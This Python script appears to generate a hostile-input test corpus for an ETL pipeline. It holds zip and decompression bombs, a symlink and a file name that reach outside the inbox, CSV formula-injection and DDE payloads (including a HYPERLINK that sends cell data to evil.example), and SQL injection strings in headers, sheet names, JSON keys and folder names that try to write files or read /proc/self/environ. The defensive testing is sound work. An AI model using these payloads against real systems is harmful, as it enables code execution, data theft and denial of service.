"""Write the hostile-input inbox: every kind of bad, odd or dangerous input the pipeline must survive.

    python tests/hostile/make_corpus.py OUT_DIR

Deterministic. Large files (1,500 pages, 2 million rows, a zip bomb) are generated, never committed. KINDS maps
each inbox path to what the run must record for it: its registry status and words its reason must contain
(None: any reason). The test runs the corpus through `outsourcing-etl run` like any inbox.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sys
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"
ENGAGEMENT = "ito-infra-northwind"  # a real sample contract; its report metric names are known
R = f"reports/{ENGAGEMENT}"
T = f"tickets/{ENGAGEMENT}"

# inbox path -> (kind, expected status, words the reason must contain)
KINDS: dict[str, tuple[str, str, str | None]] = {
    f"contracts/{ENGAGEMENT}.pdf": ("the good contract the reports refer to", "loaded", None),
    "contracts/zero-byte.pdf": ("zero-byte file", "quarantined", "empty file"),
    "contracts/truncated.pdf": ("truncated PDF", "quarantined", None),
    "contracts/broken-xref.pdf": ("PDF with a broken xref table", "loaded", None),
    "contracts/encrypted.pdf": ("encrypted PDF with a user password", "quarantined", "encrypted"),
    # opens without a password and is read; its two-line text has no charges, which the contract suite reports
    "contracts/encrypted-empty-password.pdf": ("encrypted PDF, empty user password", "loaded", "annual_charges"),
    "contracts/really-html.pdf": ("HTML saved as .pdf", "quarantined", "not a PDF"),
    "contracts/really-zip.pdf": ("ZIP saved as .pdf", "quarantined", "not a PDF"),
    "contracts/long-1500-pages.pdf": ("1,500-page PDF", "quarantined", "1500 pages"),
    "contracts/dense-page.pdf": ("a page with 200,000 characters", "quarantined", "characters"),
    "contracts/deeply-nested.pdf": ("deeply nested PDF objects", None, None),
    "contracts/scanned-image-only.pdf": ("image-only PDF (a scan)", "loaded", None),
    "contracts/form-no-text.pdf": ("PDF with a form and no text", "quarantined", "no text"),
    "contracts/vertrag-deutsch.pdf": ("contract in another language", None, None),
    "contracts/northwind-copy.pdf": ("duplicate contract under another name", "unchanged", "same content as"),
    'contracts/acme"; drop table file_registry;--.pdf': (
        "file name with quotes and semicolons",
        "quarantined",
        "cannot be an engagement id",
    ),
    "contracts/outside-link.pdf": ("symlink out of the inbox (../../x.pdf)", "quarantined", "outside the inbox"),
    f"{R}/..\\..\\x.csv": ("file name with path traversal characters", "loaded", None),
    f"{R}/zero-byte.csv": ("zero-byte report", "quarantined", "empty file"),
    f"{R}/zip-bomb.xlsx": ("XLSX zip bomb", "quarantined", "decompress"),
    f"{R}/formulas-and-errors.xlsx": ("XLSX with formulas and #DIV/0!", "loaded", "rows quarantined"),
    f"{R}/utf16.csv": ("CSV in UTF-16", "loaded", None),
    f"{R}/latin1.csv": ("CSV in Latin-1", "loaded", None),
    f"{R}/bom.csv": ("CSV with a byte-order mark", "loaded", None),
    f"{R}/formula-injection.csv": ("CSV with formula injection", "loaded", "rows quarantined"),
    f"{R}/two-million-rows.csv": ("CSV with 2 million rows", "quarantined", "limit"),
    f"{R}/thousands-separators.csv": ("thousands separators of both conventions", "loaded", None),
    f"{R}/impossible-percentages.csv": ("negative and impossible percentages", "loaded", "rows quarantined"),
    f"{R}/future-dates.csv": ("dates in the future", "loaded", "rows quarantined"),
    f"{R}/undefined-metric.csv": ("a metric the contract does not define", "loaded", "rows quarantined"),
    f"{R}/ragged.csv": ("CSV with ragged rows and a stray quote", "loaded", None),
    f"{R}/truncated.json": ("truncated JSON", "quarantined", "not valid JSON"),
    f"{R}/report.docx": ("unsupported file type", "quarantined", "unsupported report type"),
    f"{R}/really-text.xlsx": ("text file saved as .xlsx", "quarantined", "not a readable XLSX"),
    "reports/no-such-engagement/2025-01.csv": ("report for an engagement with no contract", "quarantined", None),
    # small files that would eat memory or CPU (the second attack pass)
    "contracts/stream-bomb.pdf": ("a 300 KB PDF whose stream inflates to 300 MB", "quarantined", "inflates past"),
    "contracts/blank-500-pages.pdf": ("500 blank pages for OCR", "quarantined", "OCR reads at most"),
    "contracts/huge-page.pdf": ("a 3000-point page for OCR", None, None),
    f"{R}/dimension-bomb.xlsx": ("a 5 KB workbook claiming 100,000 x 16,384 cells", "loaded", None),
    f"{R}/many-keys.json": ("JSON records with 5,000 distinct keys", "quarantined", "distinct fields"),
    f"{R}/wide-history.csv": ("CSV of 1,000 month columns", "quarantined", "split it by period"),
    f"{T}/zip-bomb.zip": ("zipped ticket export that inflates past its limit", "quarantined", "TICKET_MAX_BYTES"),
    f"{T}/two-files.zip": ("zip holding two ticket exports", "quarantined", "exactly one .csv"),
    f"{T}/no-ticket-columns.csv": (
        "a CSV in the tickets folder that holds no tickets",
        "quarantined",
        "ticket_columns",
    ),
    f"{T}/formula-tickets.csv": ("ticket export with formulas in ids, states and priorities", "loaded", "quarantined"),
    # statements hidden in what a file holds (the third attack pass, #29): each is loaded or refused as data, and
    # none of PLANTED may exist after the run. Their good rows use a month other files report too (a later month
    # would move every engagement's as-of month, #32), so a duplicate may quarantine them
    f"{T}/sql-header.csv": ("ticket header that closes its identifier and writes into dags/", "loaded", None),
    f"{T}/sql-header-reads.csv": ("ticket header that quotes /proc/self/environ into an error", "loaded", None),
    f"{T}/sql-mapped-header.csv": ("hostile headers named by the mapping file's ticket_columns", "loaded", None),
    f"{R}/sql-sheet-name.xlsx": ("workbook whose sheet name is a statement", None, None),
    f"{R}/sql-json-keys.json": ("JSON whose keys are statements", None, None),
    f"{R}/sql-metric-names.csv": ("metric names, units and periods that are statements", None, "quarantine"),
    "reports/x'); copy (select 1) to 'oetl_planted_folder.py'; --/2025-01.csv": (
        "engagement folder named as a statement",
        "quarantined",
        None,
    ),
    "tickets/x\"; copy (select 1) to 'oetl_planted_folder2.py'; --/export.csv": (
        "ticket folder named as a statement",
        "quarantined",
        None,
    ),
}
# the limit the hostile run sets for an unzipped ticket export (the default is 1 GB): the bomb inflates past it
TICKET_MAX_BYTES = 64 * 1024 * 1024

# where the statements above try to write: the DAG folder, the checkout, /tmp
PLANTED = [
    ROOT / "dags" / "oetl_planted_dag.py",
    ROOT / "oetl_planted_folder.py",
    ROOT / "oetl_planted_folder2.py",
    Path("/tmp/oetl_planted_json.py"),
    Path("/tmp/oetl_planted_metric.py"),
    Path("/tmp/oetl_planted_mapping.py"),
]

HEADER = ["Reporting Month", "Service Level", "Target", "Actual", "Status"]


def _csv(rows: list[list[str]], header=HEADER) -> str:
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(header)
    w.writerows(rows)
    return out.getvalue()


def _good_rows(month: str) -> list[list[str]]:
    return [
        [month, "Server availability", "99.9%", "99.95%", "Met"],
        [month, "P1 resolution time", "4", "3.5", "Met"],
        [month, "First contact resolution", "75%", "78%", "Met"],
    ]


def _text_pdf(path: Path, pages: list[list[str]], font_size: float = 10, encrypt=None) -> None:
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path), encrypt=encrypt)
    for lines in pages:
        text = c.beginText(20, 820)
        text.setFont("Helvetica", font_size)
        for line in lines:
            text.textLine(line)
        c.drawText(text)
        c.showPage()
    c.save()


def main(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    (out / "contracts").mkdir(exist_ok=True)
    (out / R).mkdir(parents=True, exist_ok=True)
    (out / "reports" / "no-such-engagement").mkdir(parents=True, exist_ok=True)
    contract = SAMPLES / "contracts" / f"{ENGAGEMENT}.pdf"
    good = contract.read_bytes()
    shutil.copy(contract, out / f"contracts/{ENGAGEMENT}.pdf")

    _hostile_contracts(out, contract, good)
    _hostile_reports(out)
    _ticket_files(out / T)
    _sql_attacks(out)
    _small_bombs(out)


def _hostile_contracts(out: Path, contract: Path, good: bytes) -> None:
    """Contracts that are broken, encrypted, not PDFs, huge, nested, scanned, foreign, copied, badly named or
    linked out of the inbox."""
    from reportlab.lib.pdfencrypt import StandardEncryption

    c = out / "contracts"
    (c / "zero-byte.pdf").write_bytes(b"")
    (c / "truncated.pdf").write_bytes(good[: len(good) // 3])
    broken = good.replace(b"startxref", b"startxref\n999999999\n%", 1)
    (c / "broken-xref.pdf").write_bytes(broken)
    sample_text = [
        [
            "MASTER SERVICES AGREEMENT",
            "This Agreement is made on 1 March 2025 between Acme Ltd.",
            '("Customer") and Widget Services Inc. ("Supplier").',
            "It is governed by the laws of England.",
        ]
    ]
    _text_pdf(c / "encrypted.pdf", sample_text, encrypt=StandardEncryption("open-sesame", "owner", strength=128))
    _text_pdf(c / "encrypted-empty-password.pdf", sample_text, encrypt=StandardEncryption("", "owner", strength=128))
    (c / "really-html.pdf").write_text("<!doctype html><html><body><h1>Contract</h1></body></html>\n")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("contract.txt", "not a pdf")
    (c / "really-zip.pdf").write_bytes(buffer.getvalue())
    _text_pdf(c / "long-1500-pages.pdf", [[f"Page {i + 1} of a very long annex."] for i in range(1500)])
    _text_pdf(c / "dense-page.pdf", [["x" * 200 for _ in range(1000)]], font_size=0.5)
    (c / "deeply-nested.pdf").write_bytes(_nested_pdf(depth=50_000))
    shutil.copy(SAMPLES / "scanned" / "ito-infra-northwind-scanned.pdf", c / "scanned-image-only.pdf")
    _form_pdf(c / "form-no-text.pdf")
    _text_pdf(
        c / "vertrag-deutsch.pdf",
        [
            [
                "RAHMENVERTRAG UEBER IT-DIENSTLEISTUNGEN",
                "Dieser Vertrag wird am 1. Maerz 2025 geschlossen zwischen",
                "der Muster GmbH (\"Auftraggeber\") und der Beispiel AG (\"Auftragnehmer\").",
                "Der Vertrag unterliegt deutschem Recht. Die Laufzeit betraegt drei Jahre.",
            ]
        ],
    )
    shutil.copy(contract, c / "northwind-copy.pdf")
    # a real contract under a hostile name
    shutil.copy(SAMPLES / "contracts" / "bpo-finance-ledgerline.pdf", c / 'acme"; drop table file_registry;--.pdf')
    outside = out.parent / f"{out.name}-outside.pdf"
    outside.write_bytes(good)
    (c / "outside-link.pdf").symlink_to(Path("..") / ".." / outside.name)


def _hostile_reports(out: Path) -> None:
    """Reports whose names, encodings, cells, sizes and formats attack the readers."""
    r = out / R
    (r / "..\\..\\x.csv").write_text(_csv(_good_rows("2025-01")))
    (r / "zero-byte.csv").write_bytes(b"")
    _zip_bomb(r / "zip-bomb.xlsx", uncompressed_mb=120)
    _formulas_xlsx(r / "formulas-and-errors.xlsx")
    (r / "utf16.csv").write_bytes(_csv(_good_rows("2025-02")).encode("utf-16"))
    latin = _csv(_good_rows("2025-03")).replace("Met", "Erfüllt")
    (r / "latin1.csv").write_bytes(latin.encode("latin-1"))
    (r / "bom.csv").write_bytes(b"\xef\xbb\xbf" + _csv(_good_rows("2025-04")).encode())
    (r / "formula-injection.csv").write_text(
        _csv(
            _good_rows("2025-05")
            + [
                ["2025-05", '=HYPERLINK("http://evil.example/?"&A1,"click")', "99%", "99%", "Met"],
                ["2025-05", "+cmd|' /C calc'!A0", "1", "1", "Met"],
                ["2025-05", "@SUM(1+1)*cmd|' /C calc'!A0", "1", "1", "Met"],
                ["2025-05", "Change success rate", "98%", "=1+1", "Met"],
            ]
        )
    )
    with (r / "two-million-rows.csv").open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(HEADER)
        row = ["2025-06", "Server availability", "99.9%", "99.95%", "Met"]
        for _ in range(2_000_000):
            w.writerow(row)
    (r / "thousands-separators.csv").write_text(
        _csv(
            [
                ["2025-07", "Server availability", "99.9%", "99,95%", "Met"],  # decimal comma
                ["2025-07", "P1 resolution time", "4", "1,234.5", "Missed"],  # 1,234.5 hours
                ["2025-08", "P1 resolution time", "4", "1.234,5", "Missed"],
            ]
        )
    )  # the same, the other way
    (r / "impossible-percentages.csv").write_text(
        _csv(
            [
                ["2025-08", "Server availability", "99.9%", "99.95%", "Met"],
                ["2025-08", "First contact resolution", "75%", "-12%", "Missed"],
                ["2025-08", "Change success rate", "98%", "250%", "Met"],
            ]
        )
    )
    (r / "future-dates.csv").write_text(
        _csv(_good_rows("2025-09") + [["2029-11", "Server availability", "99.9%", "99.99%", "Met"]])
    )
    (r / "undefined-metric.csv").write_text(
        _csv(_good_rows("2025-10") + [["2025-10", "Coffee machine uptime", "99%", "12%", "Missed"]])
    )
    (r / "ragged.csv").write_text(
        _csv(
            [
                ["2025-11", "Server availability", "99.9%", "99.95%", "Met", "extra", "cells"],
                ["2025-11", "P1 resolution time", "4"],
                ["2025-11", 'First contact "resolution', "75%", "80%", "Met"],
            ]
        )
    )
    (r / "truncated.json").write_text('{"vendor": "Northwind", "rows": [{"period": "2025-12", "kpi": "Server av')
    (r / "report.docx").write_bytes(b"PK\x03\x04 not really a docx")
    (r / "really-text.xlsx").write_text(_csv(_good_rows("2025-12")))
    (out / "reports" / "no-such-engagement" / "2025-01.csv").write_text(_csv(_good_rows("2025-01")[:2]))


def _nested_pdf(depth: int) -> bytes:
    """A one-page PDF whose page dictionary carries an array nested `depth` levels deep."""
    nested = b"[" * depth + b"]" * depth
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Deep " + nested + b" >>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _form_pdf(path: Path) -> None:
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path))
    c.acroForm.textfield(name="signature", x=100, y=600, width=300, height=24, value="", borderWidth=1)
    c.rect(80, 560, 360, 100)
    c.showPage()
    c.save()


def _small_bombs(out: Path) -> None:
    from openpyxl import Workbook
    from reportlab.pdfgen import canvas

    deflate = zlib.compressobj(9)
    data = b"".join(deflate.compress(b"\0" * (1 << 20)) for _ in range(300)) + deflate.flush()
    (out / "contracts" / "stream-bomb.pdf").write_bytes(
        b"%PDF-1.4\n1 0 obj\n<< /Length "
        + str(len(data)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + data
        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    blank = canvas.Canvas(str(out / "contracts" / "blank-500-pages.pdf"))
    for _ in range(500):
        blank.rect(50, 50, 1, 1)
        blank.showPage()
    blank.save()
    huge = canvas.Canvas(str(out / "contracts" / "huge-page.pdf"), pagesize=(3000, 3000))
    huge.rect(100, 100, 2800, 2800)
    huge.save()
    r = out / R
    wb = Workbook()
    wb.active.append(HEADER)
    wb.active.append(["2025-11", "Server availability", "99.9%", "99.95%", "Met"])
    wb.active.cell(row=100_000, column=16_384, value="x")  # the sheet's dimension claims XFD100000
    wb.save(r / "dimension-bomb.xlsx")
    records = [{"period": "2025-11", "kpi": "Server availability", f"field_{i}": "x"} for i in range(5_000)]
    (r / "many-keys.json").write_text(json.dumps(records))
    months = [f"{2000 + i // 12}-{i % 12 + 1:02d}" for i in range(1_000)]
    with (r / "wide-history.csv").open("w") as f:
        f.write("Service Level," + ",".join(months) + "\n")
        for n in range(202):
            f.write(f"Level {n}," + ",".join(["99"] * len(months)) + "\n")


def _ticket_files(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    header = "number,priority,state,opened_at,resolved_at\n"
    row = "INC{n:07d},3 - Moderate,Closed,01/03/2025 09:00,01/03/2025 11:00\n"
    with zipfile.ZipFile(folder / "zip-bomb.zip", "w", zipfile.ZIP_DEFLATED) as z, z.open("tickets.csv", "w") as f:
        f.write(header.encode())
        block = "".join(row.format(n=n) for n in range(10_000)).encode()
        for _ in range(TICKET_MAX_BYTES // len(block) + 2):
            f.write(block)
    with zipfile.ZipFile(folder / "two-files.zip", "w") as z:
        z.writestr("a.csv", header + row.format(n=1))
        z.writestr("b.csv", header + row.format(n=2))
    (folder / "no-ticket-columns.csv").write_text("a,b,c\nx,1,2\ny,3,4\n")
    (folder / "formula-tickets.csv").write_text(
        header
        + "=HYPERLINK(\"http://x\"),1 - Critical,Closed,01/03/2025 09:00,01/03/2025 10:00\n"
        + "INC0000002,2 - High,@SUM(1+1),01/03/2025 09:00,01/03/2025 12:00\n"
        + "INC0000003,=cmd|' /C calc'!A0,Closed,02/03/2025 09:00,02/03/2025 10:00\n"
        + "INC0000004,4 - Low,Closed,13/03/2025 09:00,13/03/2025 10:00\n"
    )


def _copy_to(target: Path) -> str:
    return f"copy (select 'import os' as code) to '{target}'"


def _sql_attacks(out: Path) -> None:
    """Statements in every place a file's text could reach SQL: headers, mapped headers, sheet names, JSON keys,
    metric names, units, periods and folder names. Written to break out of a double-quoted identifier or a
    single-quoted string."""
    from openpyxl import Workbook

    t, r = out / T, out / R
    dag, json_, metric, mapping = (PLANTED[0], *PLANTED[3:])
    rows = "INC9000001,1 - Critical,Closed,03/03/2025 09:00,03/03/2025 10:00\n"
    header = f'number"), count(1) from events; {_copy_to(dag)}; select count(("number'
    (t / "sql-header.csv").write_text(
        f'number,priority,state,opened_at,resolved_at,"{header.replace(chr(34), chr(34) * 2)}"\n'
        + rows.replace("\n", ",x\n")
    )
    reads = 'number") from events; select * from read_text(\'/proc/self/environ\'); --'
    (t / "sql-header-reads.csv").write_text(
        f'"{reads.replace(chr(34), chr(34) * 2)}",priority,state,opened_at,resolved_at\n'
        + rows.replace("INC9000001", "INC9000002")
    )
    mapped = {"ticket_id": f"Ref'); {_copy_to(mapping)}; --", "opened_at": 'Logged"; drop table events; --'}
    (t / "sql-mapped-header.csv").write_text(
        _csv(
            [["R-1", "P2", "Closed", "04/03/2025 09:00", "04/03/2025 13:00"]],
            [mapped["ticket_id"], "Sev", "state", mapped["opened_at"], "resolved_at"],
        )
    )
    (out / "mappings").mkdir(exist_ok=True)
    (out / "mappings" / f"{ENGAGEMENT}.yml").write_text(
        json.dumps({"ticket_columns": mapped, "ticket_priorities": {f"P9'); {_copy_to(mapping)}; --": 2}})
    )
    wb = Workbook()
    ws = wb.active
    ws.title = "x');copy(select 1)to'y.py';--"  # 31 characters at most: a sheet name's limit
    ws.append(HEADER)
    for row in _good_rows("2025-06"):
        ws.append(row)
    other = wb.create_sheet('a"); drop table t;--')
    other.append(HEADER)
    wb.save(r / "sql-sheet-name.xlsx")
    (r / "sql-json-keys.json").write_text(
        json.dumps(
            [
                {
                    "Reporting Month": "2025-06",
                    "Service Level": "Server availability",
                    "Target": "99.9%",
                    "Actual": "99.95%",
                    f'Status"); {_copy_to(json_)}; --': "Met",
                },
                {"Reporting Month": "2025-06", f"Service Level'); {_copy_to(json_)}; --": "x", "Actual": "1"},
            ]
        )
    )
    attack = _copy_to(metric)
    (r / "sql-metric-names.csv").write_text(
        _csv(
            [
                ["2025-06", "Server availability", "99.9%", "99.95%", "Met"],
                ["2025-06", f"x'); {attack}; --", "99%", "98%", "Met"],
                ["2025-06", f'x"); {attack}; --', "99%", "98%", "Met"],
                [f"2025-06'); {attack}; --", "P1 resolution time", "4", "3.5", "Met"],
                ["2025-06", "First contact resolution", f"75% '); {attack}; --", f"1 hours'); {attack}; --", "Met"],
            ]
        )
    )
    for folder, name in (
        (out / "reports" / "x'); copy (select 1) to 'oetl_planted_folder.py'; --", "2025-01.csv"),
        (out / "tickets" / "x\"; copy (select 1) to 'oetl_planted_folder2.py'; --", "export.csv"),
    ):
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(_csv(_good_rows("2025-01")) if name.endswith("2025-01.csv") else rows)


def _zip_bomb(path: Path, uncompressed_mb: int) -> None:
    """A workbook whose one sheet inflates to `uncompressed_mb` MB: a few hundred KB on disk."""
    from openpyxl import Workbook

    buffer = io.BytesIO()
    wb = Workbook()
    wb.active.append(HEADER)
    wb.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, source.read(item))
        with target.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><sheetData>'
            )
            row = b'<row><c t="inlineStr"><is><t>2025-01</t></is></c><c t="inlineStr"><is><t>Server availability</t></is></c></row>'
            chunk = row * 10_000
            for _ in range(uncompressed_mb * 1024 * 1024 // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")


def _formulas_xlsx(path: Path) -> None:
    """Formulas with cached results, as Excel saves them: one evaluates, one is #DIV/0!."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    ws.append(["2025-12", "Server availability", "99.9%", 99.95, "Met"])
    ws.append(["2025-12", "P1 resolution time", "4", "=A1/0", "Met"])
    ws.append(["2025-12", "First contact resolution", "75%", "=SUM(40,40)", "Met"])
    wb.save(path)
    # openpyxl writes formulas without cached values; put in the values Excel would have saved
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    for empty in ("<v></v>", "<v />", "<v/>"):
        sheet = sheet.replace(f"<f>A1/0</f>{empty}", "<f>A1/0</f><v>#DIV/0!</v>").replace(
            f"<f>SUM(40,40)</f>{empty}", "<f>SUM(40,40)</f><v>80</v>"
        )
    sheet = sheet.replace('<c r="D3"><f>A1/0</f>', '<c r="D3" t="e"><f>A1/0</f>')
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
